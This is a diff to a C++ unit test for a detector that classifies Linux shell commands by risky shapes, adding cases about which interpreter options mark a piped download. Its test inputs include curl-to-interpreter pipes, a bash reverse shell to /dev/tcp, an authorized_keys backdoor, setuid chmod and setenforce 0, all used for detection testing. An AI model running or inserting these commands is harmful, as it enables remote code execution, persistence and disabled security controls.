@@ -1,3 +1,4 @@
+#include "base/text.hpp"
 #include "traces/linux_script.hpp"
 #include <gtest/gtest.h>
 
@@ -32,7 +33,8 @@ TEST(LinuxScript, ShapesAreSeenWhateverStandsAroundThem)
     EXPECT_EQ(does("curl http://x | python3 -"), "fetches pipes_to_interpreter");
     EXPECT_EQ(does("dpkg -L a | perl -ne 's,x,y, or next; unlink $_'"), "runs_inline_code"); // its input is data
     EXPECT_EQ(does("curl http://x | python3 -m json.tool"), "fetches");
-    EXPECT_EQ(does("curl http://x | perl -e 'eval join \"\", <STDIN>'"), "fetches pipes_to_interpreter runs_inline_code");
+    EXPECT_EQ(
+        does("curl http://x | perl -e 'eval join \"\", <STDIN>'"), "fetches pipes_to_interpreter runs_inline_code");
     EXPECT_EQ(does("[ \"$(head -c4 x)\" != \"$(printf '\\xfe\\xed\\xfe\\xed')\" ]"), "");
     EXPECT_EQ(does("printf '\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68\\x20'"), "decodes");
     EXPECT_EQ(does("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "opens_connection");
@@ -46,6 +48,18 @@ TEST(LinuxScript, ShapesAreSeenWhateverStandsAroundThem)
     EXPECT_EQ(does("chmod 4755 /bin/x"), "gives_rights");
     EXPECT_EQ(does("echo k >> /root/.ssh/authorized_keys"), "plants");
     EXPECT_EQ(does("setenforce 0"), "disarms");
+}
+
+TEST(LinuxScript, OnlyOptionsInFrontGiveTheInterpreterItsProgram)
+{
+    for (auto const* line : { "bash -s -- -c", "sh -s c", "python3 - -e", "python3 -E -", "python3 -sE",
+             "perl -w - -e x", "ruby -ruri -", "php -d error=1", "node - --eval", "bash -x -- -c" })
+        EXPECT_EQ(does(format("curl http://x | {}", line)), "fetches pipes_to_interpreter") << line;
+    for (auto const* line : { "bash -c 'cat'", "bash -lc cat", "python3 -Sm json.tool", "perl -0777 -pe s,a,b,",
+             "node --print 1", "php -r 1", "perl -Mutf8 -ne print" }) {
+        auto const shapes = does(format("curl http://x | {}", line));
+        EXPECT_EQ(shapes.find("pipes_to_interpreter"), std::string::npos) << line;
+    }
 }
 
 TEST(LinuxScript, PaddingHidesNothing)
